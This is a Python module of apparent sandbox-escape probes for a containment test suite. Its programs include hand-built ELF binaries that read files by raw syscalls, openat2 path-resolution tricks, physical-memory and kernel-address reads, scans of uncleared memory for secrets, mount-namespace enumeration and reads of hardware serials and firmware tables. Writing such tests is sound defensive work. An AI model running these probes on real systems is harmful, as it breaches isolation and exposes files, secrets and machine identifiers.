"""Programs that look outside past Python and past libc, or by what the kernel shows of itself."""

# ruff: noqa: E501 - the programs are text

from __future__ import annotations

from attacks.model import Attack

GROUP = "reading"

ELF = """
def image(bits, code):
    base, size = 0x400000, 64 if bits == 64 else 52
    head = b"\\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1]) + bytes(9)
    phdr = 56 if bits == 64 else 32
    if bits == 64:
        head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + size + phdr, size, 0, 0, size, phdr, 1, 0, 0, 0)
        head += struct.pack("<IIQQQQQQ", 1, 7, 0, base, base, size + phdr + len(code), size + phdr + len(code) + 4096, 4096)
    else:
        head += struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, base + size + phdr, size, 0, 0, size, phdr, 1, 0, 0, 0)
        head += struct.pack("<IIIIIIII", 1, 0, base, base, size + phdr + len(code), size + phdr + len(code) + 4096, 7, 4096)
    return head + code, base + size + phdr

def run(bits, path):
    name = path.encode() + b"\\0"
    def code(at):
        if bits == 64:  # open, read, write, exit
            text = (b"\\xbf" + struct.pack("<I", at) + b"\\x31\\xf6\\x31\\xd2\\xb8\\x02\\0\\0\\0\\x0f\\x05\\x89\\xc7\\xbe" + struct.pack("<I", at + 512)
                    + b"\\xba\\0\\x04\\0\\0\\x31\\xc0\\x0f\\x05\\x89\\xc2\\xbf\\x01\\0\\0\\0\\xb8\\x01\\0\\0\\0\\x0f\\x05\\xbf\\x07\\0\\0\\0\\xb8\\x3c\\0\\0\\0\\x0f\\x05")
        else:
            text = (b"\\xbb" + struct.pack("<I", at) + b"\\x31\\xc9\\x31\\xd2\\xb8\\x05\\0\\0\\0\\xcd\\x80\\x89\\xc3\\xb9" + struct.pack("<I", at + 512)
                    + b"\\xba\\0\\x04\\0\\0\\xb8\\x03\\0\\0\\0\\xcd\\x80\\x89\\xc2\\xbb\\x01\\0\\0\\0\\xb8\\x04\\0\\0\\0\\xcd\\x80\\xbb\\x07\\0\\0\\0\\xb8\\x01\\0\\0\\0\\xcd\\x80")
        return text
    start = image(bits, b"")[1]
    text = code(start + 128)
    binary = image(bits, text + bytes(128 - len(text)) + name + bytes(1024))[0]
    with open("own", "wb") as file:
        file.write(binary)
    os.chmod("own", 0o700)
    done = subprocess.run([os.path.abspath("own")], capture_output=True, timeout=5)
    print("held:", bits, done.returncode, flush=True)
    return done
"""

ATTACKS = (
    Attack(
        "binary without libc",
        GROUP,
        "writes an ELF file of its own, which opens files by bare system calls",
        ELF
        + """
def attack():
    if ARM:
        return
    open("mine", "w").write("mine")
    assert run(64, os.path.abspath("mine")).stdout[:4] == b"mine"
    for path in O["canaries"]:
        if O["secret_mark"].encode() in run(64, path).stdout:
            out(path)
""",
    ),
    Attack(
        "binary of 32 bits",
        GROUP,
        "starts an ELF file of the older architecture, whose calls have other numbers",
        ELF
        + """
def attack():
    if ARM:
        return
    for path in O["canaries"]:
        try:
            done = run(32, path)
        except OSError as error:
            print("held:", error)
            return
        if O["secret_mark"].encode() in done.stdout:
            out(path)
""",
    ),
    Attack(
        "paths that are resolved anew",
        GROUP,
        "openat2 with every way to resolve, from root, thread and descriptor folders",
        """
def attack():
    starts = [os.open(top, os.O_PATH) for top in ("/", ".", "/proc/self/root", "/proc/thread-self/cwd", "/proc/self/task") if os.path.isdir(top)]
    for path in O["canaries"]:
        for start in starts:
            for resolve in (0, 1, 2, 4, 8, 16):
                for text in (path, path[1:], "../" * 20 + path[1:], f"/proc/thread-self/root{path}", f"{os.getppid()}/root{path}"):
                    how = struct.pack("=QQQ", 0, 0, resolve)
                    got = LIBC.syscall(437, start, text.encode(), how, len(how))
                    if got >= 0:
                        out(f"{text} {os.read(got, 100)}")
""",
    ),
    Attack(
        "addresses of the machine's memory",
        GROUP,
        "looks for physical pages in pagemap, and in kpagecount, kpageflags, iomem",
        """
import mmap
def attack():
    area = mmap.mmap(-1, 4096)
    area[0] = 1
    at = ctypes.addressof(ctypes.c_char.from_buffer(area))
    def frame():
        with open("/proc/self/pagemap", "rb", 0) as file:
            file.seek(at // 4096 * 8)
            return struct.unpack("=Q", file.read(8))[0] & ((1 << 55) - 1) != 0
    tried("pagemap", frame)
    for name in ("kpagecount", "kpageflags", "kpagecgroup", "vmallocinfo", "slabinfo", "pagetypeinfo"):
        tried(name, lambda: read(f"/proc/{name}", 8))
    tried("iomem", lambda: any(int(line.split(b"-")[0], 16) for line in read("/proc/iomem").splitlines()))
    tried("kallsyms", lambda: any(int(line.split()[0], 16) for line in read("/proc/kallsyms").splitlines()))
""",
    ),
    Attack(
        "memory that others left",
        GROUP,
        "takes fresh memory, pipes and files, uncleared if they can be, and searches them for secrets",
        """
import mmap
def attack():
    mark = O["secret_mark"].encode()[-8:] + b"secret"
    for flags in (0x22, 0x22 | 0x4000000, 0x22 | 0x8000):
        try:
            with mmap.mmap(-1, 8 << 20, flags=flags) as area:
                if area.find(mark) >= 0 or any(area[n] for n in range(0, 8 << 20, 4096)):
                    out(f"memory by {flags:x} is not empty")
        except (OSError, ValueError) as error:
            print("held:", error)
    with open("sparse", "w+b") as file:
        file.truncate(4 << 20)
        if file.read().strip(b"\\0"):
            out("a hole is not empty")
    held = ctypes.create_string_buffer(1 << 20)
    if mark in held.raw:
        out("the heap")
""",
    ),
    Attack(
        "mounts of others",
        GROUP,
        "lists mounts and namespaces of the machine by the newest calls",
        """
def attack():
    def listed(number, size, *fields):
        asked = struct.pack("=II", size, 0) + b"".join(struct.pack("=Q", one) for one in fields)
        into = ctypes.create_string_buffer(1 << 14)
        got = LIBC.syscall(ctypes.c_long(number), asked.ljust(size, b"\\0"), into, ctypes.c_long(1 << 11), 0)
        if got < 0:
            raise OSError(ctypes.get_errno(), str(number))
        return into.raw
    for root in (0xFFFFFFFFFFFFFFFF, 0):
        for space in (1, 2, 3):
            tried("another mount namespace", lambda: any(listed(458, 32, root, 0, 0xF0000000 + space)))
    tried("namespaces", lambda: any(listed(470, 32, 0, 0)))
    tried("mounts", lambda: any(token in open("/proc/self/mountinfo").read() for token in ("/.ssh", "/root/.", O["token"] + "-")) and
          not any(path in open("/proc/self/mountinfo").read() for path in O["packages"]))
""",
    ),
    Attack(
        "names of the machine",
        GROUP,
        "reads serial numbers, firmware tables and keys of the hardware",
        """
def attack():
    for path in ("/sys/class/dmi/id/product_uuid", "/sys/class/dmi/id/product_serial", "/sys/firmware/dmi/tables/DMI",
                 "/sys/firmware/acpi/tables/DSDT", "/sys/firmware/efi/efivars", "/sys/kernel/debug", "/sys/kernel/tracing/trace",
                 "/sys/fs/pstore", "/sys/kernel/security", "/sys/kernel/config", "/proc/device-tree", "/boot/grub"):
        tried(path, lambda: (bool(os.listdir(path)) if os.path.isdir(path) else read(path, 8)) or False)
""",
    ),
)
